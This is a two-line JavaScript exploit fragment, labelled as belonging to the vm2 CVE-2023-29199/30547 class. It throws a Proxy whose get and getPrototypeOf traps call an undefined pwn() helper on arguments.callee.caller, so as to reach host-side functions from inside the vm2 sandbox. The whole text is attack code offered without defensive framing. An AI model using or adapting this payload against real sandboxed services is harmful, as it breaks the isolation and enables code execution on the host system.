// vm2 CVE-2023-29199/30547 class: a thrown Proxy whose traps run in the host's handler
throw new Proxy({}, { get(t, k) { try { pwn(arguments.callee.caller) } catch (e) {} return () => 'x' }, getPrototypeOf() { try { pwn(arguments.callee.caller) } catch (e) {} return null } });
